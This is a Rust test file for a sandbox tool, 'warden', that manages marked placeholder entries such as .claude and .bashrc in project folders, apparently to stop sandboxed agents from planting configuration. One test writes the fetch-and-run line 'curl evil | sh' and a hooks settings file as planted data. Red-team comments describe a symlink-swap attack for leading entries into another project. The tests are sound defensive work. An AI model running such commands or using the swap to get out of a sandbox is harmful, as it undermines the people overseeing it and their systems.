use super::*;

fn dir_ph(path: &Path) -> Placeholder {
    Placeholder {
        path: path.to_path_buf(),
        dir: true,
    }
}

fn hold_list(list: &[Placeholder]) -> (Held, Vec<PathBuf>) {
    let mut recorded = Vec::new();
    let held = hold(list, None, &mut |phs| {
        recorded.extend(phs.iter().map(|ph| ph.path.clone()))
    })
    .unwrap();
    (held, recorded)
}

fn xattrs_work(dir: &Path) -> bool {
    let probe = dir.join("probe");
    std::fs::create_dir(&probe).unwrap();
    let fd = open_made(&probe, true).unwrap();
    let ok = set_mark(&fd).is_ok();
    drop(fd);
    std::fs::remove_dir(&probe).unwrap();
    ok
}

#[test]
fn a_missing_entry_appears_marked_and_the_last_holder_removes_it() {
    let base = tempfile::tempdir().unwrap();
    if !xattrs_work(base.path()) {
        panic!("the test directory's filesystem has no user xattrs");
    }
    let path = base.path().join(".claude");
    let list = [dir_ph(&path)];
    let (mut first, recorded) = hold_list(&list);
    assert!(path.is_dir());
    assert!(recorded.contains(&path), "{recorded:?}");
    let fd = open_made(&path, true).unwrap();
    assert!(is_marked(&fd));
    drop(fd);
    // A second sandbox shares it; the first one ending must not take it away.
    let (mut second, _) = hold_list(&list);
    first.release();
    assert!(path.is_dir(), "removed while another sandbox held it");
    second.release();
    assert!(!path.exists(), "the last holder left it behind");
    // No temporary names left either.
    assert_eq!(std::fs::read_dir(base.path()).unwrap().count(), 0);
}

#[test]
fn the_users_own_entries_are_never_removed() {
    let base = tempfile::tempdir().unwrap();
    let mine = base.path().join(".vscode");
    std::fs::create_dir(&mine).unwrap();
    let rc = base.path().join(".bashrc");
    std::fs::write(&rc, b"").unwrap();
    let link = base.path().join(".idea");
    std::os::unix::fs::symlink("/nonexistent", &link).unwrap();
    let list = [
        dir_ph(&mine),
        Placeholder {
            path: rc.clone(),
            dir: false,
        },
        dir_ph(&link),
    ];
    let (mut held, _) = hold_list(&list);
    assert!(held.entries.is_empty(), "unmarked entries are not held");
    held.release();
    sweep(&list);
    assert!(mine.is_dir() && rc.is_file());
    assert!(link.symlink_metadata().unwrap().file_type().is_symlink());
}

#[test]
fn a_filled_placeholder_stays_and_an_empty_file_placeholder_goes() {
    let base = tempfile::tempdir().unwrap();
    let dir = base.path().join(".codex");
    let file = base.path().join(".zshrc");
    let list = [
        dir_ph(&dir),
        Placeholder {
            path: file.clone(),
            dir: false,
        },
    ];
    let (mut held, _) = hold_list(&list);
    assert!(file.is_file());
    std::fs::write(dir.join("keep"), b"x").unwrap();
    held.release();
    assert!(dir.join("keep").exists(), "what someone put there stays");
    assert!(!file.exists());
}

#[test]
fn the_janitor_sweeps_only_what_nobody_holds() {
    let base = tempfile::tempdir().unwrap();
    let path = base.path().join(".cursor");
    let list = [dir_ph(&path)];
    let (held, _) = hold_list(&list);
    let (other, _) = hold_list(&list);
    // One supervisor died: its locks go with its descriptors, nothing removed.
    held.abandon();
    sweep(&list);
    assert!(path.is_dir(), "swept while another sandbox held it");
    other.abandon();
    sweep(&list);
    assert!(!path.exists());
}

#[test]
fn a_placeholder_removed_between_open_and_lock_is_made_again() {
    let base = tempfile::tempdir().unwrap();
    let path = base.path().join(".warden");
    let list = [dir_ph(&path)];
    let (mut a, _) = hold_list(&list);
    // Hold the exclusive lock as a remover does, remove, then let a new sandbox in.
    let fd = std::mem::take(&mut a.entries).pop().unwrap().fd;
    lock(&fd, libc::LOCK_EX, Duration::ZERO).unwrap();
    let opened = match find(&path).unwrap() {
        Found::Marked(fd) => fd,
        _ => panic!("not found as marked"),
    };
    std::fs::remove_dir(&path).unwrap();
    drop(fd);
    assert!(!still_named(&opened, &path).unwrap());
    let (mut b, _) = hold_list(&list);
    assert!(path.is_dir(), "not made again");
    b.release();
    assert!(!path.exists());
}

#[test]
fn a_foreign_exclusive_lock_fails_the_hold_with_a_reason_instead_of_hanging() {
    let base = tempfile::tempdir().unwrap();
    let path = base.path().join(".claude");
    let list = [dir_ph(&path)];
    let (a, _) = hold_list(&list);
    let other = match find(&path).unwrap() {
        Found::Marked(fd) => fd,
        _ => panic!("not found as marked"),
    };
    a.abandon();
    lock(&other, libc::LOCK_EX, Duration::ZERO).unwrap();
    let started = Instant::now();
    let err = hold(&list, None, &mut |_| {}).unwrap_err();
    assert!(started.elapsed() >= LOCK_WAIT);
    assert!(err.to_string().contains(".claude"), "{err}");
    assert!(err.to_string().contains("lock"), "{err}");
}

fn hold_pooled(list: &[Placeholder], pool: &Path) -> Held {
    hold(list, Some(pool), &mut |_| {}).unwrap()
}

fn ino(path: &Path) -> u64 {
    use std::os::unix::fs::MetadataExt;
    std::fs::symlink_metadata(path).unwrap().ino()
}

fn pool_entries(pool: &Path) -> Vec<PathBuf> {
    let mut v: Vec<PathBuf> = std::fs::read_dir(pool)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    v.sort();
    v
}

#[test]
fn a_released_placeholder_waits_in_the_pool_and_the_next_run_takes_it() {
    let base = tempfile::tempdir().unwrap();
    let pool = base.path().join("home/.cache/warden/placeholders");
    let project = base.path().join("project");
    std::fs::create_dir(&project).unwrap();
    let dir = project.join(".claude");
    let file = project.join(".zshrc");
    let list = [
        dir_ph(&dir),
        Placeholder {
            path: file.clone(),
            dir: false,
        },
    ];
    let mut first = hold_pooled(&list, &pool);
    let (dir_ino, file_ino) = (ino(&dir), ino(&file));
    first.release();
    assert!(!dir.exists() && !file.exists(), "left in the project");
    // Made for it, this user's only.
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(&pool).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o700, "{mode:o}");
    let kept = pool_entries(&pool);
    assert_eq!(kept.len(), 2, "{kept:?}");
    let mut second = hold_pooled(&list, &pool);
    assert_eq!(ino(&dir), dir_ino, "the directory was made anew, not taken");
    assert_eq!(ino(&file), file_ino, "the file was made anew, not taken");
    assert!(
        pool_entries(&pool).is_empty(),
        "taken but still in the pool"
    );
    let fd = open_made(&dir, true).unwrap();
    assert!(is_marked(&fd));
    drop(fd);
    // Shared with a concurrent sandbox as before; the last one out gives it back.
    let mut third = hold_pooled(&list, &pool);
    second.release();
    assert!(dir.is_dir(), "given back while another sandbox held it");
    third.release();
    assert!(!dir.exists());
    assert_eq!(pool_entries(&pool).len(), 2);
    assert_eq!(std::fs::read_dir(&project).unwrap().count(), 0);
}

#[test]
fn pool_entries_that_are_not_empty_marked_placeholders_are_never_taken() {
    let base = tempfile::tempdir().unwrap();
    let pool = base.path().join("pool");
    let project = base.path().join("project");
    std::fs::create_dir(&project).unwrap();
    let list = [
        dir_ph(&project.join(".claude")),
        Placeholder {
            path: project.join(".bashrc"),
            dir: false,
        },
    ];
    // Fill the pool with marked entries, then spoil each.
    let mut held = hold_pooled(&list, &pool);
    held.release();
    for e in pool_entries(&pool) {
        if e.is_dir() {
            std::fs::write(e.join("settings.json"), b"{\"hooks\":{}}").unwrap();
        } else {
            std::fs::write(&e, b"curl evil | sh\n").unwrap();
        }
    }
    // And an unmarked empty one.
    std::fs::create_dir(pool.join("d-unmarked")).unwrap();
    let before = pool_entries(&pool);
    let mut again = hold_pooled(&list, &pool);
    assert_eq!(
        std::fs::read_dir(project.join(".claude")).unwrap().count(),
        0,
        "a filled entry was taken"
    );
    assert_eq!(std::fs::read(project.join(".bashrc")).unwrap(), b"");
    assert_eq!(
        pool_entries(&pool),
        before,
        "the pool's other entries changed"
    );
    again.release();
}

#[test]
fn a_filled_placeholder_is_not_given_to_the_pool() {
    let base = tempfile::tempdir().unwrap();
    let pool = base.path().join("pool");
    let project = base.path().join("project");
    std::fs::create_dir(&project).unwrap();
    let dir = project.join(".vscode");
    let mut held = hold_pooled(&[dir_ph(&dir)], &pool);
    std::fs::write(dir.join("tasks.json"), b"{}").unwrap();
    held.release();
    assert!(
        dir.join("tasks.json").is_file(),
        "what someone put there stays"
    );
    assert!(
        !pool.exists() || pool_entries(&pool).is_empty(),
        "a filled placeholder went to the pool"
    );
}

#[test]
fn a_pool_others_can_write_is_not_used() {
    use std::os::unix::fs::PermissionsExt;
    let base = tempfile::tempdir().unwrap();
    let pool = base.path().join("pool");
    let project = base.path().join("project");
    std::fs::create_dir(&project).unwrap();
    let dir = project.join(".cursor");
    let mut held = hold_pooled(&[dir_ph(&dir)], &pool);
    held.release();
    let kept = pool_entries(&pool);
    assert_eq!(kept.len(), 1);
    std::fs::set_permissions(&pool, std::fs::Permissions::from_mode(0o777)).unwrap();
    let mut again = hold_pooled(&[dir_ph(&dir)], &pool);
    assert_ne!(ino(&dir), ino(&kept[0]), "taken from a world-writable pool");
    again.release();
    assert!(!dir.exists());
    assert_eq!(pool_entries(&pool), kept, "given to a world-writable pool");
}

#[test]
fn a_pool_on_another_filesystem_is_left_alone() {
    // /dev/shm is a tmpfs (user xattrs since Linux 6.6); the pool is on the test's disk.
    let shm = tempfile::tempdir_in("/dev/shm").unwrap();
    if !xattrs_work(shm.path()) {
        panic!("/dev/shm has no user xattrs: this test needs Linux 6.6 or later");
    }
    let base = tempfile::tempdir().unwrap();
    let pool = base.path().join("pool");
    let project = base.path().join("project");
    std::fs::create_dir(&project).unwrap();
    let mut held = hold_pooled(&[dir_ph(&project.join(".gemini"))], &pool);
    held.release();
    assert_eq!(pool_entries(&pool).len(), 1);
    let far = shm.path().join(".gemini");
    let mut held = hold_pooled(&[dir_ph(&far), dir_ph(&shm.path().join(".zed"))], &pool);
    assert!(far.is_dir());
    held.release();
    assert!(!far.exists(), "left on the other filesystem");
    assert_eq!(pool_entries(&pool).len(), 1, "the pool changed");
}

#[test]
fn a_pooled_entry_goes_back_only_to_the_path_it_was_released_from() {
    let base = tempfile::tempdir().unwrap();
    let pool = base.path().join("pool");
    let (p, q) = (base.path().join("p"), base.path().join("q"));
    std::fs::create_dir(&p).unwrap();
    std::fs::create_dir(&q).unwrap();
    let mut held = hold_pooled(&[dir_ph(&p.join(".claude"))], &pool);
    let kept_ino = ino(&p.join(".claude"));
    held.release();
    let kept = pool_entries(&pool);
    assert_eq!(kept.len(), 1);
    // Another project: a new placeholder, the first project's entry stays in the pool.
    let mut other = hold_pooled(&[dir_ph(&q.join(".claude"))], &pool);
    assert_ne!(
        ino(&q.join(".claude")),
        kept_ino,
        "another path's entry was taken"
    );
    assert!(kept[0].is_dir());
    other.release();
    assert_eq!(pool_entries(&pool).len(), 2);
    // An entry named for q but marked for p (as if renamed in the pool) is not taken for q
    // either: the mark's value is compared in full.
    let q_entry = pool_entries(&pool)
        .into_iter()
        .find(|e| *e != kept[0])
        .unwrap();
    let fd = open_made(&q_entry, true).unwrap();
    set_mark_value(&fd, p.join(".claude").as_os_str().as_bytes()).unwrap();
    let q_ino = ino(&q_entry);
    drop(fd);
    let mut again = hold_pooled(&[dir_ph(&q.join(".claude"))], &pool);
    assert_ne!(
        ino(&q.join(".claude")),
        q_ino,
        "taken with another path's mark"
    );
    again.release();
    // The first project gets its own back.
    let mut back = hold_pooled(&[dir_ph(&p.join(".claude"))], &pool);
    assert_eq!(ino(&p.join(".claude")), kept_ino);
    back.release();
}

#[test]
fn a_full_pool_makes_room_by_removing_another_paths_entry() {
    let base = tempfile::tempdir().unwrap();
    let pool = base.path().join("pool");
    let project = base.path().join("project");
    std::fs::create_dir(&project).unwrap();
    let dir = project.join(".zed");
    let mut held = hold_pooled(&[dir_ph(&dir)], &pool);
    held.release();
    for i in 0..POOL_MAX {
        std::fs::create_dir(pool.join(format!("d-{i:016x}-old"))).unwrap();
    }
    // Released just now (the name says when): evicted last.
    let recent = pool.join(format!(
        "d-{:032x}-{:x}-0-1-0",
        7,
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_secs()
    ));
    std::fs::create_dir(&recent).unwrap();
    // A filled entry of another path is never removed to make room: what is in it may be
    // someone's (written while it was being put away).
    std::fs::write(pool.join("d-0000000000000000-old/keep"), b"x").unwrap();
    let mut held = hold_pooled(&[dir_ph(&dir)], &pool);
    let ino_now = ino(&dir);
    held.release();
    assert!(!dir.exists(), "left in the project");
    let entries = pool_entries(&pool);
    assert!(entries.len() <= POOL_MAX, "{} entries", entries.len());
    assert!(
        entries.iter().any(|e| ino(e) == ino_now),
        "not given to the full pool"
    );
    assert!(
        recent.exists(),
        "the most recently released entry was evicted"
    );
    assert!(pool.join("d-0000000000000000-old/keep").exists());
}

/// Red-team round 23c: with the project's directory swapped for a link to another project,
/// warden made its placeholders in that other project. Now nothing is made through a link.
#[test]
fn no_placeholder_is_made_through_a_symlink_swapped_into_the_path() {
    let base = tempfile::tempdir().unwrap();
    let (p, q) = (base.path().join("ws/P"), base.path().join("other/Q"));
    std::fs::create_dir_all(base.path().join("ws")).unwrap();
    std::fs::create_dir_all(&q).unwrap();
    std::os::unix::fs::symlink(&q, &p).unwrap();
    let list = [
        dir_ph(&p.join(".claude")),
        Placeholder {
            path: p.join(".bashrc"),
            dir: false,
        },
    ];
    let err = hold(&list, None, &mut |_| {}).unwrap_err();
    assert!(err.to_string().contains("symbolic link"), "{err}");
    assert_eq!(
        std::fs::read_dir(&q).unwrap().count(),
        0,
        "made in the link's target"
    );
}

/// Red-team round 23b: a sandbox that may write a parent of the project swaps the project
/// directory for a symlink to another project just before a run takes its placeholders back
/// from the pool; the entries (which that sandbox may hold writable descriptors to) must not
/// land in the other project.
#[test]
fn a_symlink_swapped_into_the_path_does_not_lead_pool_entries_elsewhere() {
    let base = tempfile::tempdir().unwrap();
    let pool = base.path().join("pool");
    let (p, q) = (base.path().join("ws/P"), base.path().join("other/Q"));
    std::fs::create_dir_all(&p).unwrap();
    std::fs::create_dir_all(&q).unwrap();
    let list = [dir_ph(&p.join(".claude")), dir_ph(&p.join(".vscode"))];
    let mut held = hold_pooled(&list, &pool);
    held.release();
    let kept: Vec<u64> = pool_entries(&pool).iter().map(|e| ino(e)).collect();
    assert_eq!(kept.len(), 2);
    std::fs::rename(&p, base.path().join("ws/P.old")).unwrap();
    std::os::unix::fs::symlink(&q, &p).unwrap();
    // The placeholders may be made anew through the link (fresh, nobody holds them) or not
    // at all; the pooled ones stay in the pool.
    let held = hold(&list, Some(&pool), &mut |_| {});
    for name in [".claude", ".vscode"] {
        let there = q.join(name);
        assert!(
            !there.exists() || !kept.contains(&ino(&there)),
            "a pooled entry was led into {}",
            there.display()
        );
    }
    if let Ok(mut h) = held {
        h.release();
    }
    let now: Vec<u64> = pool_entries(&pool).iter().map(|e| ino(e)).collect();
    for k in &kept {
        assert!(now.contains(k), "pooled entry {k} left the pool: {now:?}");
    }
}

/// The same swap at the end of a run: the release must not move another project's entry
/// into the pool (nor remove it).
#[test]
fn a_symlink_swapped_in_before_the_release_leaves_the_other_projects_entry_alone() {
    let base = tempfile::tempdir().unwrap();
    let pool = base.path().join("pool");
    let (p, q) = (base.path().join("ws/P"), base.path().join("other/Q"));
    std::fs::create_dir_all(&p).unwrap();
    std::fs::create_dir_all(&q).unwrap();
    // Q has a placeholder of its own (marked, empty) while P's run ends.
    let q_held = hold_pooled(&[dir_ph(&q.join(".claude"))], &pool);
    let q_ino = ino(&q.join(".claude"));
    q_held.abandon();
    let mut held = hold_pooled(&[dir_ph(&p.join(".claude"))], &pool);
    std::fs::rename(&p, base.path().join("ws/P.old")).unwrap();
    std::os::unix::fs::symlink(&q, &p).unwrap();
    held.release();
    assert_eq!(
        ino(&q.join(".claude")),
        q_ino,
        "Q's entry was moved or removed"
    );
}
